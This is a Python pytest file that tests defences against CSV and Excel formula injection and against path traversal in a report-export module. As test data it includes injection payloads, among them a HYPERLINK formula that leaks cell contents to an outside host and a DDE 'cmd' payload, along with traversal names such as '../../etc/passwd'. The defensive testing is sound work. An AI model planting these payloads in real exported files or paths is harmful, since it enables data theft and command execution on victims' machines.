"""Safe output: paths stay inside the chosen folder; user text never becomes a formula
in an exported workbook or CSV file."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest

from bw_mllca.report.files import inside, safe_cell, safe_frame, safe_output_dir, write_text_cell

FORMULA_LIKE = [
    "=1+1",
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=训练",
]
PLAIN = ["pre-training", "H100 (8 per node)", "1,000 queries", "a = b", "", "训练", "'quoted"]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_safe_cell_prefixes_formula_like_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", PLAIN + [1.5, -2.0, 0, None, True])
def test_safe_cell_leaves_other_values_alone(value):
    assert safe_cell(value) == value


def test_write_text_cell_keeps_text_as_text_through_save_and_reload(tmp_path):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    values = FORMULA_LIKE + PLAIN
    for row, text in enumerate(values, start=1):
        write_text_cell(sheet, row, 1, text)
    write_text_cell(sheet, len(values) + 1, 1, -3.5)  # numbers stay numbers
    write_text_cell(sheet, len(values) + 2, 1, "bell\x07 and nul\x00")  # XML-illegal characters
    # Without the helper, openpyxl makes the first one a formula: the reason for the helper.
    sheet.cell(row=1, column=2, value="=1+1")
    assert sheet.cell(row=1, column=2).data_type == "f"
    path = tmp_path / "report.xlsx"
    workbook.save(path)

    reread = openpyxl.load_workbook(path).active
    for row, text in enumerate(values, start=1):
        cell = reread.cell(row=row, column=1)
        if text == "":
            assert cell.value is None  # openpyxl does not store an empty string
            continue
        assert cell.value == text and cell.data_type == "s", (row, cell.value)
        assert bool(cell.quotePrefix) == (text in FORMULA_LIKE)
    number = reread.cell(row=len(values) + 1, column=1)
    assert number.value == -3.5 and number.data_type == "n"
    assert reread.cell(row=len(values) + 2, column=1).value == "bell\ufffd and nul\ufffd"
    # No formula anywhere in the sheet XML we wrote.
    import zipfile

    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert sheet_xml.count("<f>") == 1  # only the deliberate one in column B


def test_safe_frame_for_csv_and_to_excel(tmp_path):
    frame = pd.DataFrame({"stage": FORMULA_LIKE[:5] + ["pre-training"], "score": [1.0, -2.0, 3.0, 4.0, 5.0, 6.0]})
    frame.columns = ["=stage", "score"]
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'=stage", "score"]
    assert safe["score"].tolist() == frame["score"].tolist()
    assert frame.columns[0] == "=stage"  # the original is not changed
    path = tmp_path / "lcia.csv"
    safe.to_csv(path, index=False)
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row[:1])
    xlsx = tmp_path / "lcia.xlsx"
    safe.to_excel(xlsx, index=False)
    sheet = openpyxl.load_workbook(xlsx).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("name", ["../escape.csv", "../../etc/passwd", "/tmp/absolute.csv", "a/../../b.csv", "sub/../../x"])
def test_inside_refuses_names_that_leave_the_folder(tmp_path, name):
    with pytest.raises(ValueError, match="outside"):
        inside(tmp_path / "out", name)


@pytest.mark.parametrize("name", ["lcia.csv", "plots/gwp.png", "a/../b.csv", "训练.xlsx", "=cmd.csv"])
def test_inside_accepts_names_within_the_folder(tmp_path, name):
    folder = tmp_path / "out"
    target = inside(folder, name)
    assert folder.resolve() in target.parents


def test_inside_refuses_a_symlink_out_of_the_folder(tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "link").symlink_to(tmp_path)
    with pytest.raises(ValueError, match="outside"):
        inside(folder, "link/escape.csv")


def test_safe_output_dir_refuses_a_file(tmp_path):
    file = tmp_path / "file"
    file.write_text("x")
    with pytest.raises(ValueError, match="not a folder"):
        safe_output_dir(file)
    assert safe_output_dir(tmp_path / "new" / "dir").is_dir()
